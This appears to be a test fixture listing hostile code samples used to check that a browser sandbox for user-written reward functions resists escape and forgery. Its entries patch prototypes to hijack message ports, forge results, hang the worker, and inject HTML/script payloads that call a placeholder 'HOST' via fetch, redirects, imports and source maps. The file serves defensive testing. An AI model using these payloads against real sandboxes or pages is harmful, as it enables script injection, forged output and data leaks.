const GOOD = 'const phi = ({ rew }) => rewardToGo(rew);';

/** Gets at what it can of the sandbox's own, and keeps every port that it sees. */
const CATCH = `const ports = new Set();
const see = (port) => { try { if (port instanceof MessagePort) ports.add(port); } catch {} };
const { postMessage: post, close, start } = MessagePort.prototype;
const spy = (of, name) => {
  const real = of[name];
  of[name] = function (...values) { see(this); values.flat().forEach(see); return Reflect.apply(real, this, values); };
};
const spyOn = (of, name) => {
  const { get, set, ...rest } = Object.getOwnPropertyDescriptor(of, name);
  Object.defineProperty(of, name, { ...rest, configurable: true,
    get() { see(this); const got = get?.call(this); [got].flat().forEach(see); return got; },
    set(value) { see(this); set?.call(this, value); } });
};
`;

/** Says something through all ports that were caught, again and again. */
const say = (message: string) =>
  `setInterval(() => { for (const port of ports) for (let i = 0; i < 1000; i++) post.call(port, ${message}); }, 20);\n${GOOD}`;

const ANSWER = '{ id: i, answers: [{ weights: new Float32Array(9) }] }';
const PROBLEM = '{ id: i, answers: [{ problem: "forged", line: i }] }';

/**
 * Code that forges messages, answers or errors, or lies about itself: its name, and the whole of it. The editor may say that it works, or a
 * sentence of the book's own; nothing else may come of it.
 */
export const forgeries: readonly (readonly [name: string, code: string])[] = [
  [
    'answers by ports that post',
    `${CATCH}spy(MessagePort.prototype, 'postMessage');\n${say(ANSWER)}`,
  ],
  [
    'problems by ports that post',
    `${CATCH}spy(MessagePort.prototype, 'postMessage');\n${say(PROBLEM)}`,
  ],
  ['answers by ports of events', `${CATCH}spyOn(MessageEvent.prototype, 'ports');\n${say(ANSWER)}`],
  [
    'signs of life by ports that listen',
    `${CATCH}spyOn(MessagePort.prototype, 'onmessage');\n${say('null')}`,
  ],
  [
    'answers by targets of events',
    `${CATCH}spyOn(Event.prototype, 'target'); spyOn(Event.prototype, 'currentTarget');\n${say(ANSWER)}`,
  ],
  [
    'answers by calls',
    `${CATCH}spy(Function.prototype, 'call'); spy(Function.prototype, 'apply');\n${say(ANSWER)}`,
  ],
  ['answers by reflection', `${CATCH}spy(Reflect, 'apply'); spy(Reflect, 'set');\n${say(ANSWER)}`],
  [
    'answers by listeners',
    `${CATCH}spy(EventTarget.prototype, 'addEventListener');\n${say(ANSWER)}`,
  ],
  [
    'an ear at the worker',
    `${CATCH}addEventListener('message', ({ ports: all }) => all.forEach(see), true);\n${say(ANSWER)}`,
  ],
  [
    'an ear in the worker’s place',
    `${CATCH}self.onmessage = ({ ports: all }) => all.forEach(see);\n${say(ANSWER)}`,
  ],
  [
    'events that go on',
    `${CATCH}Event.prototype.stopImmediatePropagation = () => {};\nonmessage = ({ ports: all }) => all.forEach(see);\n${say(ANSWER)}`,
  ],
  [
    'what all objects have',
    `Object.defineProperty(Object.prototype, 'then', { get() { throw new Error('then'); } });\n${GOOD}`,
  ],
  [
    'numbers of all lists',
    `Object.defineProperty(Array.prototype, '0', { set() {}, get: () => 7 });\n${GOOD}`,
  ],
  [
    'an id of all objects',
    `Object.defineProperty(Object.prototype, 'id', { value: 1, writable: true });\n${GOOD}`,
  ],
  [
    'an answer of all objects',
    `Object.prototype.weights = new Float32Array(3); Object.prototype.problem = 'forged';\n${GOOD}`,
  ],
  ['a word to the frame', `postMessage({ message: 'forged', line: 1 });\n${GOOD}`],
  ['words to the frame by the thousand', `for (let i = 0; i < 1e4; i++) postMessage(i);\n${GOOD}`],
  [
    'a port for the frame',
    `const { port1, port2 } = new MessageChannel(); postMessage(null, [port1]); port2.postMessage('x');\n${GOOD}`,
  ],
  ['a word later', `setTimeout(() => postMessage({ message: 'later' }), 5);\n${GOOD}`],
  [
    'an error later',
    `setTimeout(() => { throw new Error('your session has expired'); }, 5);\n${GOOD}`,
  ],
  ['an end', `close();\n${GOOD}`],
  ['silence', 'for (;;) {}'],
  ['silence at the first step', 'const phi = () => { for (;;) {} };'],
  ['a weight too many', 'const phi = ({ rew }) => [...rew, 1];'],
  ['a list of a thousand million', 'const phi = () => ({ length: 1e9 });'],
  [
    'a length that changes',
    'let n = 0; const phi = ({ rew }) => ({ get length() { return n++ ? 1e9 : rew.length; } });',
  ],
  [
    'a mirror',
    'const phi = ({ rew }) => new Proxy(rew, { get: (of, key) => (key === "length" ? of.length : 1 / 0) });',
  ],
  ['a promise of weights', 'const phi = async ({ rew }) => rewardToGo(rew);'],
  ['a generator of weights', 'function* phi({ rew }) { yield* rewardToGo(rew); }'],
  ['a class of weights', 'class Weights { constructor() { return [1]; } }\nconst phi = Weights;'],
  [
    'weights that act',
    'const phi = ({ rew }) => rew.map(() => ({ valueOf() { postMessage("acted"); return 1; } }));',
  ],
  [
    'infinite weights that are called finite',
    'Number.isFinite = isFinite = () => true;\nconst phi = ({ rew }) => rew.map(() => Infinity);',
  ],
  [
    'arrays that are others',
    'Float32Array = Float64Array = Array = function () { return new Proxy([], {}); };\nconst phi = ({ rew }) => rew;',
  ],
  [
    'an error that acts',
    'const phi = () => { throw { toString() { postMessage("acted"); return "x"; }, get stack() { throw 1; } }; };',
  ],
  [
    'an error that looks like the page',
    'throw new Error("</p><script>fetch(\'http://HOST/html\')</script><img src=http://HOST/img onerror=alert(1)>");',
  ],
  ['an error turned round', 'throw new Error("\\u202e\\u0000\\n\\n" + "x".repeat(1e5));'],
  [
    'a stack that lies',
    'Error.prepareStackTrace = () => ":999999999:1)"; const phi = () => { throw new Error("x"); };',
  ],
  [
    'a page in the code',
    `// </script><script>top.location = 'http://HOST/top'</script><!--\n${GOOD}`,
  ],
  ['a way out of the script', `});\nfetch('http://HOST/out');\n(() => {\n${GOOD}`],
  ['a map of the source', `${GOOD}\n//# sourceMappingURL=http://HOST/map.js`],
  ['a module', `import 'http://HOST/import.js';\n${GOOD}`],
  [
    'its taker',
    `const real = self.takePhi; self.takePhi = (x) => { real(() => [NaN]); real(x); };\n${GOOD}`,
  ],
  [
    'its helpers',
    'self.rewardToGo = () => { throw new Error("x"); }; self.takePhi = null;\nconst phi = ({ rew }) => rewardToGo(rew);',
  ],
  [
    'weights of a strange realm',
    'const phi = ({ rew }) => structuredClone(Object.assign(rewardToGo(rew), { extra: 1 }));',
  ],
];
